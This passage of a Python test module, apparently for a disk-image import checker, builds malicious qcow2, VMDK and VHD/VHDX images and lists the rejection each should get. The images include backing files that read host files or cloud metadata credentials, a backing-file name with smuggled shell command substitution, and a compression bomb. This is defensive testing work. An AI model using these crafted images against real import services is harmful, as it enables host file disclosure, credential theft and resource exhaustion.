"""Disk images: files that name other files, headers that claim too much, and files that are two kinds at a time.

Backing and data files, VMDK descriptors and parents, differencing disks, tables that lie, truncation, polyglots.
"""

from __future__ import annotations

import functools
import struct
import subprocess
import tempfile
import uuid
from collections.abc import Callable
from pathlib import Path

from hostile.case import HARMLESS, Case, Scene
from rig import crafted
from rig.crafted import be32, be64, le32, le64, patched, qemu_img, vmdk_descriptor
from rig.images import MIB

BACKING = "refers to a backing file"
DATA_FILE = "keeps its data in another file"
DATA_FILE_EXTENSION = 0x44415441
BITMAPS_EXTENSION = 0x23852875
ONLY_DESCRIPTOR = "only the descriptor of a VMDK disk"
NOT_WHOLE = "is not a whole image"
PARENT = "refers to a parent disk"
HEADER = "its header makes no sense"


@functools.cache
def image(kind: str, content: bytes = b"") -> bytes:
    """A disk of 1 MiB, or with ``content``, in a kind of rig.crafted.KINDS."""
    with tempfile.TemporaryDirectory() as directory:
        raw = Path(directory, "disk")
        raw.write_bytes(content or disk())
        return crafted.make(Path(directory), kind, raw).read_bytes()


@functools.cache
def disk() -> bytes:
    return (crafted.mbr() + b"content!" * 16_000).ljust(MIB, b"\0")


def bent(kind: str, *patches: tuple[int, bytes]) -> Callable[[Scene], bytes]:
    """An image with other bytes at some offsets."""
    return lambda scene: patched(image(kind), *patches)


def cut(kind: str, part: float) -> Callable[[Scene], bytes]:
    return lambda scene: image(kind, crafted.disk())[: int(len(image(kind, crafted.disk())) * part)]


def backed(name: str, backing_format: str = "raw") -> Callable[[Scene], bytes]:
    """A qcow2 over the backing file ``name``, filled in as by Scene.filled()."""

    def build(scene: Scene) -> bytes:
        path = scene.directory / "backed"
        backing = scene.filled(name)
        qemu_img("create", "-q", "-f", "qcow2", "-u", "-b", backing, "-F", backing_format, path, "1M")
        return path.read_bytes()

    return build


def data_file(name: str, features: int = 4) -> Callable[[Scene], bytes]:
    def build(scene: Scene) -> bytes:
        named = scene.filled(name).encode()
        extended = crafted.qcow2_with_extension(image("qcow2"), DATA_FILE_EXTENSION, named)
        return patched(extended, (0x48, be64(features)), (0x58, be64(2)))

    return build


def extension(kind: int, length: int) -> Callable[[Scene], bytes]:
    """A qcow2 whose first header extension claims ``length``."""
    return lambda scene: patched(image("qcow2"), (image("qcow2")[103], be32(kind) + be32(length)))


def l1_entry(value: int) -> Callable[[Scene], bytes]:
    def build(scene: Scene) -> bytes:
        good = image("qcow2")
        return patched(good, (int.from_bytes(good[40:48], "big"), be64(value)))

    return build


def l2_entries(pick: Callable[[int], int], size: int = 0) -> Callable[[Scene], bytes]:
    """A qcow2 whose whole first L2 table is what ``pick`` makes of its first entry."""

    def build(scene: Scene) -> bytes:
        good = image("qcow2")
        l1 = int.from_bytes(good[40:48], "big")
        l2 = int.from_bytes(good[l1 : l1 + 8], "big") & 0x00FFFFFFFFFFFE00
        first = int.from_bytes(good[l2 : l2 + 8], "big")
        return patched(good, (l2, be64(pick(first)) * 8192), *([(24, be64(size))] if size else []))

    return build


def qcow2_after(*commands: str, then: Callable[[bytes], bytes] = bytes) -> Callable[[Scene], bytes]:
    """A qcow2 with data, as these commands of qemu-img leave it: "snapshot -c one {}"."""

    def build(scene: Scene) -> bytes:
        path = scene.directory / "image"
        path.write_bytes(image("qcow2", crafted.disk()))
        for command in commands:
            qemu_img(*(word.replace("{}", str(path)) for word in command.split()))
        return then(path.read_bytes())

    return build


def snapshot_entry(change: Callable[[bytes], bytes]) -> Callable[[Scene], bytes]:
    """A qcow2 whose one snapshot is described by other bytes."""

    def bend(good: bytes) -> bytes:
        table = int.from_bytes(good[64:72], "big")
        return good[:table] + change(good[table:])

    return qcow2_after("snapshot -c one {}", then=bend)


def shared_snapshots(scene: Scene) -> bytes:
    """A qcow2 of sixty thousand snapshots with one L1 table, that of the disk."""
    good = patched(image("qcow2"), (60, be32(60_000) + be64(len(image("qcow2")))))
    return good + (good[40:48] + be32(8000) + bytes(28)) * 60_000


def bitmap_directory(offset: int, data: bytes) -> Callable[[Scene], bytes]:
    """A qcow2 with a bitmap, whose directory has other bytes at an offset."""

    def bend(good: bytes) -> bytes:
        extension = good.index(be32(BITMAPS_EXTENSION) + be32(24))
        directory = int.from_bytes(good[extension + 24 : extension + 32], "big")
        return patched(good, (directory + offset, data))

    return qcow2_after("bitmap --add {} one", then=bend)


def compressed_garbage(scene: Scene) -> bytes:
    """A qcow2 whose data at 3 MiB is compressed, and no deflate stream."""
    good = image("qcow2-zlib", crafted.disk())
    l1 = int.from_bytes(good[40:48], "big")
    l2 = int.from_bytes(good[l1 : l1 + 8], "big") & 0x00FFFFFFFFFFFE00
    start = int.from_bytes(good[l2 + 384 : l2 + 392], "big") & ((1 << 54) - 1)
    return patched(good, (start, b"\xff" * 40))


def vhdx_bat(entry: int) -> Callable[[Scene], bytes]:
    """A VHDX whose first block is where ``entry`` says."""

    def build(scene: Scene) -> bytes:
        good = image("vhdx", crafted.disk())
        table = good[192 * 1024 : 256 * 1024]
        place = table.index(uuid.UUID(VHDX_BAT).bytes_le)
        return patched(good, (int.from_bytes(table[place + 16 : place + 24], "little"), le64(entry)))

    return build


def vhdx_overlapping(table: bytes) -> bytes:
    """The block table where the metadata are."""
    return patched(table, (32, table[64:72]))


def nested(inner: Callable[[Scene], bytes]) -> Callable[[Scene], bytes]:
    """A qcow2 whose guest disk is itself an image."""

    def build(scene: Scene) -> bytes:
        content = inner(scene)
        return image("qcow2", content + bytes(-len(content) % 512))

    return build


def descriptor(
    extent: str,
    kind: str = "monolithicFlat",
    more: str = "",
    change: Callable[[bytes], bytes] = bytes,
) -> Callable[[Scene], bytes]:
    """A text descriptor alone, filled in as by Scene.filled(); {link} is a link to the canary, {relative} its path from
    the datastore."""

    def build(scene: Scene) -> bytes:
        link = scene.directory / "link"
        link.symlink_to(scene.canary)
        up = "../" * len(Path(scene.store.base_path).parts)
        text = vmdk_descriptor(kind, extent, more).decode()
        for name, path in (("link", link), ("relative", f"{up}{scene.canary}")):
            text = text.replace("{" + name + "}", str(path))
        return change(scene.filled(text).encode())

    return build


def embedded(
    extent: str, kind: str = "monolithicSparse", more: str = "", *patches: tuple[int, bytes]
) -> Callable[[Scene], bytes]:
    """A sparse VMDK with another descriptor inside."""

    def build(scene: Scene) -> bytes:
        text = descriptor(extent, kind, more)(scene)
        return patched(image("vmdk-sparse"), (512, text.ljust(20 * 512, b"\0")), *patches)

    return build


def stream(*patches: tuple[int, bytes]) -> Callable[[Scene], bytes]:
    return lambda scene: patched(crafted.vmware_stream(disk()), *patches)


def vhd(base: str, *header: tuple[int, bytes], **footer: int) -> Callable[[Scene], bytes]:
    """A dynamic VHD with other fields in its dynamic header, or in both footers."""

    def build(scene: Scene) -> bytes:
        good = image(base)
        end = good[-512:]
        where = {"kind": 0x3C, "size": 0x30}
        for name, value in footer.items():
            end = patched(end, (where[name], be32(value) if name == "kind" else be64(value)))
        end = crafted.with_vhd_checksum(end)
        moved = [(512 + offset, data) for offset, data in header]
        if not good.startswith(b"conectix"):
            return good[:-512] + end
        return patched(good, *moved, (0, end), (-512, end))

    return build


def vhdx_number(guid: str, data: bytes) -> Callable[[Scene], bytes]:
    def build(scene: Scene) -> bytes:
        good = image("vhdx")
        return patched(good, (crafted.vhdx_item(good, guid)[1], data))

    return build


def vhdx_region(change: Callable[[bytes], bytes]) -> Callable[[Scene], bytes]:
    """A VHDX with other region tables, their checksums made right."""

    def build(scene: Scene) -> bytes:
        good = image("vhdx")
        for start in (192 * 1024, 256 * 1024):
            table = patched(change(good[start : start + 65536]), (4, bytes(4)))
            good = patched(good, (start, patched(table, (4, le32(crafted.crc32c(table))))))
        return good

    return build


def encrypted(image_format: str, prefix: str) -> Callable[[Scene], bytes]:
    def build(scene: Scene) -> bytes:
        path = scene.directory / "encrypted"
        crafted.create_encrypted(path, image_format, prefix)
        return path.read_bytes()

    return build


def made(image_format: str, size: str, *options: str) -> Callable[[Scene], bytes]:
    def build(scene: Scene) -> bytes:
        path = scene.directory / "made"
        qemu_img("create", "-q", "-f", image_format, *options, path, size)
        return path.read_bytes()

    return build


def compressed_bomb(scene: Scene) -> bytes:
    """A qcow2 of some KiB that is 256 MiB of one letter."""
    raw, path = scene.directory / "raw", scene.directory / "bomb"
    subprocess.run(f"yes | head -c 256M > '{raw}'", shell=True, check=True)
    qemu_img("convert", "-c", "-f", "raw", "-O", "qcow2", "-o", "cluster_size=2M", raw, path)
    raw.unlink()
    return path.read_bytes()


def iso_with(magic: bytes, offset: int = 0) -> Callable[[Scene], bytes]:
    return lambda scene: patched(crafted.iso(), (offset, magic))


def raw_with(head: bytes) -> Callable[[Scene], bytes]:
    return lambda scene: head.ljust(MIB, b"\0")


VHDX_PARAMETERS = "caa16737-fa36-4d43-b3b6-33f0aa44e76b"
VHDX_BAT = "2dc27766-f623-4200-9d64-115e9bfd4a08"
VHDX_SIZE = "2fa54224-cd1b-4876-b211-5dbed83bf4b8"
OSSA_QCOW2 = "CVE-2015-5163, OSSA-2015-014"
OSSA_DATA = "CVE-2024-32498, OSSA-2024-001"
OSSA_VMDK = "CVE-2022-47951, OSSA-2023-002"
OSSA_SIZE = "CVE-2013-2096, OSSA-2013-012"
OSSA_INFO = "CVE-2015-5162, OSSA-2016-012"
OSSA_RAW = "CVE-2024-40767, OSSA-2024-002"

QCOW2 = (
    Case("qcow2-backing-absolute", "reads a file of the host by its path", backed("{canary}"), BACKING, OSSA_QCOW2),
    Case("qcow2-backing-relative", "climbs from the scratch space to a file of the host",
         backed("../../../../../../../../../../{canary}"), BACKING, OSSA_QCOW2),
    Case("qcow2-backing-json", "hides the file in a json: protocol name, which checks for a slash in front miss",
         backed('json:{"driver":"raw","file.filename":"{canary}"}'), BACKING, "CVE-2024-4467"),
    Case("qcow2-backing-nbd", "connects to a server of the attacker's choice, inside of the network",
         backed("nbd://{bait}/disk"), BACKING, OSSA_QCOW2),
    Case("qcow2-backing-http-metadata", "fetches the credentials of a cloud from its metadata address",
         backed("http://169.254.169.254/latest/meta-data/"), BACKING, OSSA_QCOW2),
    Case("qcow2-backing-fd", "reads a descriptor that the process happens to hold", backed("fd:0"), BACKING,
         OSSA_QCOW2),
    Case("qcow2-backing-proc-fd", "reads a descriptor of the process by its path", backed("/proc/self/fd/0"), BACKING,
         OSSA_QCOW2),
    Case("qcow2-backing-fdset", "reads a descriptor that qemu was given", backed("/dev/fdset/0"), BACKING, OSSA_QCOW2),
    Case("qcow2-backing-device", "reads a disk of the host", backed("/dev/vda"), BACKING, OSSA_QCOW2),
    Case("qcow2-backing-fat", "makes a file system of a directory of the host", backed("fat:rw:/etc"), BACKING,
         OSSA_QCOW2),
    Case("qcow2-backing-ssh", "logs in to another host with the key of oneadmin", backed("ssh://root@127.0.0.1/disk"),
         BACKING, OSSA_QCOW2),
    Case("qcow2-backing-json-nbd", "connects to a server by a json: name",
         backed('json:{"driver":"nbd","export":"","server":{"type":"inet","host":"127.0.0.1","port":"{port}"}}'),
         BACKING, "CVE-2024-4467"),
    Case("qcow2-backing-http", "fetches from a server inside of the network", backed("http://{bait}/disk"), BACKING,
         OSSA_QCOW2),
    Case("qcow2-backing-line-break", "has a line break and more in the name of its backing file",
         backed("a\nb'; $(touch {canary})"), BACKING),
    Case("qcow2-backing-itself", "is backed by its own copy in the scratch space, an endless chain",
         backed("source", "qcow2"), BACKING),
    Case("qcow2-backing-without-length", "has an offset of a backing file and no length, which readers take in two "
         "ways", bent("qcow2", (8, be64(512))), BACKING),
    Case("qcow2-backing-offset-beyond", "keeps the name of its backing file outside of the header that is looked at",
         bent("qcow2", (8, be64(65536) + be32(1000))), BACKING),
    Case("qcow2-backing-version-2", "names a backing file in the old header, which has no feature bits",
         lambda scene: patched(image("qcow2-v2"), (8, be64(512) + be32(len(str(scene.canary)))),
                               (512, str(scene.canary).encode())), BACKING, OSSA_QCOW2),
    Case("qcow2-data-file-absolute", "keeps its guest's data in a file of the host", data_file("{canary}"), DATA_FILE,
         OSSA_DATA),
    Case("qcow2-data-file-without-bit", "names a data file without the feature bit that inspectors look at",
         data_file("{canary}", 0), DATA_FILE, OSSA_DATA),
    Case("qcow2-data-file-without-name", "has the bit of a data file and leaves its name to the reader",
         bent("qcow2", (0x48, be64(4))), DATA_FILE, OSSA_DATA),
    Case("qcow2-data-file-json", "hides its data file in a json: protocol name",
         data_file('json:{"driver":"file","filename":"{canary}"}'), DATA_FILE, "CVE-2024-4467"),
    Case("qcow2-data-file-relative", "keeps its data in a file beside it, of another import",
         data_file("../../42.other/source"), DATA_FILE, OSSA_DATA),
    Case("qcow2-data-file-nbd", "keeps its data on a server", data_file("nbd://{bait}/x"), DATA_FILE,
         OSSA_DATA),
    Case("qcow2-feature-unknown", "needs a feature of a later qemu, which may open anything",
         bent("qcow2", (0x48, be64(1 << 37))), "incompatible feature bit 37); convert it"),
    Case("qcow1", "is of the old format, in which a backing file is found elsewhere", made("qcow", "1M"), "qcow (v"),
    Case("qcow2-encrypted-luks", "waits for a passphrase that nobody enters", encrypted("qcow2",
         "encrypt.format=luks,encrypt."), "is encrypted"),
    Case("qcow2-encrypted-aes", "is encrypted in the old way", bent("qcow2", (0x20, be32(1))), "is encrypted (AES)"),
    Case("qcow2-corrupt", "is marked as corrupt, so that its tables may overlap", bent("qcow2", (0x48, be64(2))),
         "marked as corrupt"),
    Case("qcow2-cluster-bits-63", "makes readers shift their numbers out of their range", bent("qcow2",
         (0x14, be32(63))), "cluster", OSSA_INFO),
    Case("qcow2-size-negative", "has a size that is negative in 64 bits", bent("qcow2", (0x18, be64(1 << 63))),
         "claims a size", OSSA_SIZE),
    Case("qcow2-size-4-eib", "claims more than its L1 table can hold", bent("qcow2", (0x18, be64(1 << 62))),
         "max_virtual_size",
         OSSA_SIZE),
    Case("qcow2-size-64-tib", "is 64 TiB large in some KiB: a volume, or the disks, fill up",
         made("qcow2", "64T"), "max_virtual_size", OSSA_SIZE),
    Case("qcow2-l1-huge", "has tools allocate an L1 table of 16 GiB", bent("qcow2", (0x24, be32(0x7FFFFFFF))),
         "L1 table of 2147483647 entries",
         OSSA_INFO),
    Case("qcow2-l1-beyond", "has its L1 table outside of the file", bent("qcow2", (0x28, be64(1 << 60))), "truncated"),
    Case("qcow2-l1-to-l2-beyond", "points to tables that were cut off: they are read as zeros",
         l1_entry(1 << 63 | 1 << 40), "truncated"),
    Case("qcow2-l2-is-l1", "uses its L1 table as an L2 table too", l1_entry(1 << 63 | 0x30000), HARMLESS),
    Case("qcow2-l2-to-data-beyond", "points to data that was cut off", l2_entries(lambda first: 1 << 63 | 1 << 50),
         "truncated"),
    Case("qcow2-l2-all-one-cluster", "stores one cluster 4096 times: a small file that becomes a large disk",
         l2_entries(lambda first: first, 256 * MIB), HARMLESS, "CVE-2013-4463, OSSA-2013-029", scratch=300 * MIB),
    Case("qcow2-compressed-bomb", "unpacks to a thousand times its length", compressed_bomb, HARMLESS,
         "CVE-2013-4469, OSSA-2013-029", scratch=300 * MIB),
    Case("qcow2-snapshots-4g", "has tools read four thousand million snapshots", bent("qcow2", (0x3C, be32(2**32 - 1))),
         "4294967295 internal snapshots", OSSA_INFO),
    Case("qcow2-snapshots-beyond", "has its snapshot table outside of the file",
         bent("qcow2", (0x3C, be32(1) + be64(1 << 55))), "truncated"),
    Case("qcow2-snapshot-cut", "is stored as it is, without the end of its snapshot",
         snapshot_entry(lambda rest: rest[:30]), "truncated", driver=None),
    Case("qcow2-snapshot-l1-beyond", "has a snapshot whose tables were cut off",
         snapshot_entry(lambda rest: patched(rest, (0, be64(1 << 50)))), "truncated", driver="qcow2"),
    Case("qcow2-snapshot-l1-huge", "has a snapshot with an L1 table of 32 GiB",
         snapshot_entry(lambda rest: patched(rest, (8, be32(2**32 - 1)))), "L1 table of a snapshot", driver=None),
    Case("qcow2-snapshot-name-huge", "has a snapshot whose description is 4 GiB long",
         snapshot_entry(lambda rest: patched(rest, (36, be32(2**32 - 8)))), "truncated", driver=None),
    Case("qcow2-snapshots-share-tables", "has the same tables read for sixty thousand snapshots",
         shared_snapshots, "L1 table of a snapshot", OSSA_INFO, driver=None),
    Case("qcow2-snapshot-to-data-beyond", "was cut off behind its disk, where its snapshot is",
         qcow2_after("snapshot -c one {}", "bench -c 1 -w -f qcow2 {}",
                     then=lambda good: patched(good, (72, b""))[: len(good) - 65536]), "truncated", driver=None),
    Case("qcow2-bitmap-table-beyond", "has a bitmap whose table was cut off", bitmap_directory(0, be64(1 << 50)),
         "truncated", driver=None),
    Case("qcow2-bitmap-table-huge", "has a bitmap with a table of 32 GiB", bitmap_directory(8, be32(2**32 - 1)),
         "table of a bitmap", OSSA_INFO, driver=None),
    Case("qcow2-bitmap-name-huge", "has a bitmap whose description is 4 GiB long",
         bitmap_directory(20, be32(2**32 - 1)), "truncated", driver=None),
    Case("qcow2-refcount-table-beyond", "has its refcount table outside of the file",
         bent("qcow2", (0x30, be64(1 << 50))), "truncated", driver=None),
    Case("qcow2-refcount-block-beyond", "has refcounts that were cut off",
         lambda scene: patched(image("qcow2"), (int.from_bytes(image("qcow2")[48:56], "big") + 8, be64(1 << 50))),
         "truncated", driver=None),
    Case("qcow2-compressed-garbage", "has compressed data that nobody can unpack", compressed_garbage,
         "cannot be converted to raw"),
    Case("qcow2-larger-than-declared", "has a disk larger than its owner was charged for", made("qcow2", "64M"),
         "SIZE=64 (size_policy", OSSA_SIZE, settings={"size_policy": "refuse"}),
    Case("qcow2-larger-than-declared-warned", "has a disk larger than its owner was charged for, which is told",
         made("qcow2", "65M"), HARMLESS, OSSA_SIZE, settings={"size_policy": "warn"}),
    Case("qcow2-refcounts-huge", "has tools allocate a refcount table of terabytes", bent("qcow2",
         (0x38, be32(0x7FFFFFFF))), "refcount table", OSSA_INFO),
    Case("qcow2-refcount-order-64", "has refcounts of 2^64 bits", bent("qcow2", (0x60, be32(64))),
         "reference counts of 2^64 bits"),
    Case("qcow2-header-length-2-gib", "has tools read a header of 2 GiB", bent("qcow2", (0x64, be32(1 << 31))),
         "bytes long"),
    Case("qcow2-compression-unknown", "needs a decompressor that does not exist", bent("qcow2", (0x68, b"\x07")),
         "compression type"),
    Case("qcow2-extension-4-gib", "claims a header extension of 4 GiB", extension(0x12345678, 2**32 - 1),
         "an extension of 4294967295 bytes"),
    Case("qcow2-bitmaps-garbage", "has a bitmap directory that leads nowhere",
         lambda scene: patched(crafted.qcow2_with_extension(
             image("qcow2"), BITMAPS_EXTENSION, be32(2**31) + bytes(4) + be64(1 << 40) + be64(1 << 60)),
             (0x58, be64(1))), "directory of 2147483648 bitmaps"),
    Case("qcow2-cut-in-header", "ends within its header", lambda scene: image("qcow2")[:60], "truncated"),
    Case("qcow2-cut-at-half", "has half of its data, and zeros for the rest if nobody looks", cut("qcow2", 0.5),
         "truncated"),
    Case("qcow2-cut-at-the-end", "lacks its last tenth only", cut("qcow2", 0.9), "truncated"),
)  # fmt: skip

VMDK = (
    Case("vmdk-flat-absolute", "is a text that makes any file of the host a disk",
         descriptor('RW 64 FLAT "{canary}" 0'), ONLY_DESCRIPTOR, OSSA_VMDK),
    Case("vmdk-flat-climbing", "reaches a file of the host with '..'", descriptor('RW 64 FLAT "{relative}" 0'),
         ONLY_DESCRIPTOR, OSSA_VMDK),
    Case("vmdk-flat-device", "makes a device of the host a disk",
         descriptor('RW 2048 FLAT "/dev/vda" 0', "fullDevice"), ONLY_DESCRIPTOR, OSSA_VMDK),
    Case("vmdk-flat-symlink", "reads a file of the host through a link", descriptor('RW 64 FLAT "{link}" 0'),
         ONLY_DESCRIPTOR, OSSA_VMDK),
    Case("vmdk-vmfs-absolute", "makes any file of the host a disk, in the words of ESX",
         descriptor('RW 64 VMFS "{canary}"', "vmfs"), ONLY_DESCRIPTOR, OSSA_VMDK),
    Case("vmdk-flat-json", "has a protocol name for an extent",
         descriptor('RW 64 FLAT "json:{}" 0', "custom"), ONLY_DESCRIPTOR, OSSA_VMDK),
    Case("vmdk-flat-partitioned", "takes partitions of a disk of the host",
         descriptor('RW 63 FLAT "disk-pt.vmdk" 0\nRW 2048 FLAT "/dev/vda" 63', "partitionedDevice"), ONLY_DESCRIPTOR,
         OSSA_VMDK),
    Case("vmdk-text-bom", "begins with a byte order mark, which hides it from inspectors",
         descriptor('RW 64 FLAT "{canary}" 0', change=lambda text: b"\xef\xbb\xbf" + text), "VMDK"),
    Case("vmdk-text-nul", "is padded with NULs, so that it is no text to inspectors",
         descriptor('RW 64 FLAT "{canary}" 0', change=lambda text: text.ljust(4096, b"\0")), "VMDK", OSSA_RAW),
    Case("vmdk-text-odd-byte", "has one byte that is not ASCII in a comment",
         descriptor('RW 64 FLAT "{canary}" 0', change=lambda text: text.replace(b"Extent", b"\xe9\x7f")), "VMDK",
         OSSA_RAW),
    Case("vmdk-text-carriage-returns", "ends its lines as old Macs did",
         descriptor('RW 64 FLAT "{canary}" 0', change=lambda text: text.replace(b"\n", b"\r")), "VMDK"),
    Case("vmdk-text-version-first", "is a descriptor to qemu without the words that people look for",
         lambda scene: f'version=1\nCID=1\nparentCID=ffffffff\nRW 64 FLAT "{scene.canary}" 0\ncreateType="mono'
                       'lithicFlat"\n'.encode().ljust(1024), "is a text, not a disk image", OSSA_RAW),
    Case("vmdk-sparse-flat-inside", "says in a sparse file that its data is in another one",
         embedded('RW 64 FLAT "{canary}" 0', "monolithicFlat"),
         "of a kind that is not a whole image (monolithicFlat)", OSSA_VMDK),
    Case("vmdk-sparse-capacity-zero", "has a capacity of 0, which makes qemu read the descriptor inside",
         embedded('RW 64 FLAT "{canary}" 0', "monolithicFlat", "", (12, le64(0))), "a size of 0 sectors", OSSA_VMDK),
    Case("vmdk-sparse-path", "names itself by a path elsewhere", embedded('RW 2048 SPARSE "{canary}"'), "elsewhere",
         OSSA_VMDK),
    Case("vmdk-sparse-climbing", "names itself by a path above it",
         embedded('RW 2048 SPARSE "../../source"'), "elsewhere", OSSA_VMDK),
    Case("vmdk-sparse-backslash", "names itself by a path with backslashes",
         embedded('RW 2048 SPARSE "..\\\\source"'), "elsewhere", OSSA_VMDK),
    Case("vmdk-sparse-protocol", "names itself by a protocol", embedded('RW 2048 SPARSE "nbd:{bait}"'),
         "elsewhere", OSSA_VMDK),
    Case("vmdk-sparse-types", "is of two kinds in one descriptor",
         embedded('RW 2048 SPARSE "disk.vmdk"', more='createType="monolithicFlat"'), "of a kind that is not",
         OSSA_VMDK),
    Case("vmdk-sparse-extents", "has another extent besides itself",
         embedded('RW 2048 SPARSE "disk.vmdk"\nRW 64 FLAT "{canary}" 0'), "2 extents", OSSA_VMDK),
    Case("vmdk-version-4", "is of a version that nobody knows", bent("vmdk-sparse", (4, le32(4))), "version 4"),
    Case("vmdk-descriptor-huge", "has a descriptor of 2^54 bytes", bent("vmdk-sparse", (0x24, le64(1 << 45))),
         "ends within its header",
         OSSA_INFO),
    Case("vmdk-table-beyond", "has a grain table that was cut off", lambda scene: patched(
        image("vmdk-sparse"), (512 * int.from_bytes(image("vmdk-sparse")[0x38:0x40], "little"), le32(1 << 31))),
        "truncated"),
    Case("vmdk-redundant-directory-beyond", "has the copy of its grain directory outside of the file",
         bent("vmdk-sparse", (0x30, le64(1 << 40))), HARMLESS),
    Case("vmdk-parent-hint", "is completed from a file of the host",
         embedded('RW 2048 SPARSE "disk.vmdk"', more='parentFileNameHint="{canary}"'), PARENT),
    Case("vmdk-parent-cid", "has the content identifier of a parent",
         embedded('RW 2048 SPARSE "disk.vmdk"', more="parentCID=12345678"), PARENT),
    Case("vmdk-parent-behind-nul", "names its parent behind the end of the text, where qemu still looks",
         lambda scene: patched(image("vmdk-sparse"),
                               (512 + 4096, f'parentFileNameHint="{scene.canary}"\n'.encode())), PARENT),
    Case("vmdk-descriptor-elsewhere", "has its descriptor far into the file", bent("vmdk-sparse", (0x1C, le64(50))),
         "not where it belongs"),
    Case("vmdk-descriptor-none", "is one part of a disk, with the rest elsewhere",
         bent("vmdk-sparse", (0x1C, le64(0) + le64(0))), "one part of a split"),
    Case("vmdk-capacity-huge", "claims 2^53 sectors, and tables for all of them",
         bent("vmdk-sparse", (12, le64(1 << 53))), "max_virtual_size", OSSA_SIZE),
    Case("vmdk-grain-zero", "has tools divide by zero", bent("vmdk-sparse", (0x14, le64(0))), "damaged"),
    Case("vmdk-grain-huge", "has tools allocate for one grain what memory cannot hold",
         bent("vmdk-sparse", (0x14, le64(1 << 40))), "damaged", OSSA_INFO),
    Case("vmdk-table-entries-4g", "has grain tables of 16 GiB", bent("vmdk-sparse", (0x2C, le32(2**32 - 1))),
         "damaged", OSSA_INFO),
    Case("vmdk-directory-beyond", "has its grain directory outside of the file",
         bent("vmdk-sparse", (0x38, le64(1 << 40))), "truncated"),
    Case("vmdk-cowd", "is the delta of an ESX disk", lambda scene: b"COWD".ljust(MIB, b"\1"), "COWD"),
    Case("vmdk-footer-capacity", "says another size at its end than in front, one for each reader",
         stream((-1024 + 12, le64(4096))), "footer"),
    Case("vmdk-footer-missing", "lacks the footer that knows where its tables are",
         lambda scene: crafted.vmware_stream(disk())[:-1536], "footer"),
    Case("vmdk-compression-disagrees", "says that its grains are compressed, and how not",
         bent("vmdk-stream", (0x4D, b"\0\0")), "compression"),
    Case("vmdk-stream-marker-huge", "has a compressed grain of 4 GiB",
         lambda scene: patched(crafted.vmware_stream(disk()), (65536 + 8, le32(2**32 - 1))), "truncated"),
    Case("vmdk-sparse-cut", "lacks a third, which qemu-img reads as zeros", cut("vmdk-sparse", 0.66), "truncated"),
    Case("vmdk-stream-cut", "lacks its end and its tables with it", cut("vmdk-stream", 0.5), "truncated"),
)  # fmt: skip

MICROSOFT = (
    Case("vhd-differencing", "holds what changed since a parent; alone it becomes a broken disk",
         vhd("vhd-dynamic", kind=4), "differencing"),
    Case("vhd-checksum", "has a footer that was tampered with", bent("vhd-dynamic", (0x30, be64(1 << 40))), "checksum"),
    Case("vhd-bat-4g", "has a block table of 16 GiB", vhd("vhd-dynamic", (0x1C, be32(2**32 - 1))), "block table",
         OSSA_INFO),
    Case("vhd-bat-beyond", "has its block table outside of the file", vhd("vhd-dynamic", (0x10, be64(1 << 62))),
         "truncated"),
    Case("vhd-block-beyond", "has a block that was cut off", lambda scene: patched(
        image("vhd-dynamic"), (int.from_bytes(image("vhd-dynamic")[528:536], "big"), be32(1 << 30))), "truncated"),
    Case("vhd-header-beyond", "has its dynamic header outside of the file", lambda scene: patched(
        vhd("vhd-dynamic")(scene), *((place, crafted.with_vhd_checksum(patched(
            image("vhd-dynamic")[-512:], (16, be64(1 << 50))))) for place in (0, -512))), "truncated"),
    Case("vhd-type-9", "is of a type that nobody knows", vhd("vhd-dynamic", kind=9), "disk type 9"),
    Case("vhd-block-size-zero", "has blocks without content", vhd("vhd-dynamic", (0x20, be32(0))), "damaged"),
    Case("vhd-size-huge", "claims more than a VHD can hold", vhd("vhd-dynamic", size=1 << 62), "claims a size",
         OSSA_SIZE),
    Case("vhd-footer-only", "is the end of an image whose beginning is missing",
         lambda scene: crafted.vhd_footer(kind=3), "which no file has"),
    Case("vhd-fixed-size-lies", "claims in its footer more than there is", vhd("vhd-fixed", size=1 << 40), "truncated"),
    Case("vhd-fixed-has-qcow2", "is a fixed VHD by its end and a qcow2 by its beginning",
         lambda scene: backed("{canary}")(scene) + crafted.vhd_footer(), BACKING, OSSA_RAW),
    Case("vhd-dynamic-cut", "lacks blocks, and the footer at its end", cut("vhd-dynamic", 0.7), "truncated"),
    Case("vhdx-differencing", "holds what changed since a parent VHDX",
         vhdx_number(VHDX_PARAMETERS, le32(1 << 25) + le32(2)), "differencing"),
    Case("vhdx-log", "has a log that was not replayed, with writes to anywhere in the file",
         lambda scene: crafted.vhdx_with_log(image("vhdx")), "log"),
    Case("vhdx-block-zero", "has blocks without a size, for tools to divide by",
         vhdx_number(VHDX_PARAMETERS, le32(0) + le32(0)), "blocks of 0"),
    Case("vhdx-size-huge", "claims 2^63 bytes", vhdx_number(VHDX_SIZE, le64(1 << 63)), "claims a size", OSSA_SIZE),
    Case("vhdx-size-beyond-table", "claims 60 TiB with a block table for a few MiB",
         vhdx_number(VHDX_SIZE, le64(60 << 40)), "max_virtual_size", OSSA_SIZE),
    Case("vhdx-regions-4g", "has a region table of 4 thousand million entries",
         vhdx_region(lambda table: patched(table, (8, le32(2**32 - 1)))), "entries", OSSA_INFO),
    Case("vhdx-regions-twice", "has two block tables, one for each reader",
         vhdx_region(lambda table: patched(table, (48, table[16:48]))), "the same thing twice"),
    Case("vhdx-regions-overlap", "has its block table and its metadata in one place", vhdx_region(vhdx_overlapping),
         "regions of the VHDX overlap"),
    Case("vhdx-metadata-4g", "has a metadata table of 65535 entries", lambda scene: patched(
        image("vhdx"), (image("vhdx").index(b"metadata", 1 << 20) + 10, b"\xff\xff")), "65535 entries", OSSA_INFO),
    Case("vhdx-item-beyond", "has its size outside of its metadata", lambda scene: patched(
        image("vhdx"), (crafted.vhdx_item(image("vhdx"), VHDX_SIZE)[0] + 16, le32(2**31))), "not where its table says"),
    Case("vhdx-block-beyond", "has a block of a VHDX that was cut off", vhdx_bat(1 << 50 | 6), "truncated"),
    Case("vhdx-block-in-parent", "has a block in a parent that it does not name", vhdx_bat(7), "differencing"),
    Case("vhdx-metadata-beyond", "has its metadata beyond the end of the world",
         vhdx_region(lambda table: patched(table, (32, le64(1 << 62)), (64, le64(1 << 61)))), "ends within its header"),
    Case("vhdx-headers-invalid", "has no valid header left",
         bent("vhdx", (65536 + 100, b"x"), (131072 + 100, b"x")), "headers"),
    Case("vhdx-cut", "lacks its second half", cut("vhdx", 0.6), "truncated"),
)  # fmt: skip

VDI = (
    Case("vdi-differencing", "holds what changed since a parent VDI", bent("vdi", (0x4C, le32(4))), "VDI"),
    Case("vdi-parent-uuid", "has the identity of a parent in an image that says it has none",
